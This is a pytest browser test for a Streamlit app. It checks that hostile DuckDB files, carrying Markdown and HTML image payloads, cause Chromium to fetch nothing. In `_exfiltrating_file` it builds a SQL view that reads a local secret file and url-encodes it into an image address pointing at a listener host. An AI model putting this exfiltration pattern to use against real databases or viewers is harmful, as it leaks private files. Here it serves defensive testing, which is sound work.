"""Issue 14 end to end: a real Chromium shows hostile database files through the real app and fetches nothing.

A local HTTP server on 127.0.0.1 counts requests. The served database (tests/hostile.py) carries
Markdown images, HTML image tags, links and autolinks pointing at that server in every text a file
supplies; Chromium visits every page, then asks the sidebar to open a second file whose `problems`
is a view that would put a local file's contents into an image address. The server must see no
request at all; then one plain <img> in the same browser must reach it (the count could have moved).
"""
from __future__ import annotations

import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import duckdb
import pytest

from db.store import Store
from tests.hostile import hostile_text_database
from tests.test_browser import CHROMIUM, CHROMIUM_ARGS, PAGES, REPO, _free_port, _require_browser, _wait_healthy, \
    settle

pytestmark = pytest.mark.browser


class Listener(BaseHTTPRequestHandler):
    """Records every request's path: any request is the leak this test exists to catch."""
    seen: list[str] = []

    def do_GET(self):  # noqa: N802 (http.server's name)
        Listener.seen.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args):  # quiet
        pass


@pytest.fixture()
def listener():
    Listener.seen = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()


def _exfiltrating_file(folder, host: str):
    secret = folder / "secret.txt"
    secret.write_text("the-contents-of-a-private-file")
    path = folder / "view.duckdb"
    Store(path).close()
    conn = duckdb.connect(str(path))
    conn.execute("DROP TABLE problems")
    conn.execute(f"""CREATE VIEW problems AS SELECT 1 AS run_id, 'p' AS problem_id, 0 AS ord,
        '![x](http://{host}/leak?d=' || url_encode((SELECT content FROM read_text('{secret}'))) || ')' AS question,
        '1' AS gold, 1.0 AS gold_value, 1 AS difficulty, '' AS solution, 'full' AS phase""")
    conn.close()
    return path


def test_hostile_files_make_the_browser_fetch_nothing(tmp_path, listener, tiny_model_dir, tiny_reasoner):
    _require_browser()
    from playwright.sync_api import expect, sync_playwright

    host = f"127.0.0.1:{listener}"
    database = tmp_path / "hostile.duckdb"
    hostile_text_database(database, tiny_model_dir, tiny_reasoner, host)
    view_file = _exfiltrating_file(tmp_path, host)
    port, log = _free_port(), tmp_path / "streamlit.log"
    url = f"http://127.0.0.1:{port}"
    with open(log, "w") as out:
        server = subprocess.Popen(
            [sys.executable, "-m", "streamlit", "run", "app.py", "--server.port", str(port), "--server.headless",
             "true", "--", "--db", str(database)], cwd=REPO, stdout=out, stderr=subprocess.STDOUT)
    try:
        _wait_healthy(url, server, log)
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
            try:
                page = browser.new_page(viewport={"width": 1440, "height": 900})
                page.goto(url)
                expect(page.get_by_role("heading", name="Run a sweep")).to_be_visible(timeout=120_000)
                settle(page, timeout=30)
                for title, path in PAGES.items():  # the sweep's run, the newest, shows on each page
                    if path:  # the Run page ("") is where the app opened
                        page.locator("[data-testid='stSidebarNavLink']", has_text=title).first.click()
                        page.wait_for_url(f"{url}/{path}", timeout=30_000)
                        settle(page, timeout=30)
                    assert not page.locator("[data-testid='stException']").count(), title
                    if title == "Problems":  # the drill-down shows the first question, payload and all, as text
                        expect(page.get_by_text("![x](http://", exact=False).first).to_be_visible()

                page.get_by_text("Database file").click()
                box = page.get_by_role("textbox", name="Open another .duckdb file")
                box.fill(str(view_file))
                box.press("Enter")
                settle(page, timeout=30)
                open_button = page.locator("[data-testid='stSidebar'] [data-testid='stBaseButton-secondary']",
                                           has_text="Open")
                if not box.is_visible():  # the rerun after Enter can redraw the sidebar with the expander closed
                    page.get_by_text("Database file").click()
                open_button.click()
                settle(page, timeout=30)
                expect(page.locator("[data-testid='stSidebar'] [data-testid='stAlertContentError']",
                                    has_text="view main.problems")).to_be_visible(timeout=30_000)
                time.sleep(2)  # an image the page asked for would have arrived by now
                assert Listener.seen == [], f"the browser fetched {Listener.seen}"

                # the control: this browser does reach the listener when a page really holds an image
                page.set_content(f'<img src="http://{host}/control.png">')
                deadline = time.time() + 20
                while not Listener.seen and time.time() < deadline:
                    time.sleep(0.2)
                assert Listener.seen == ["/control.png"], Listener.seen
            finally:
                browser.close()
    finally:
        server.terminate()
        server.wait(timeout=30)
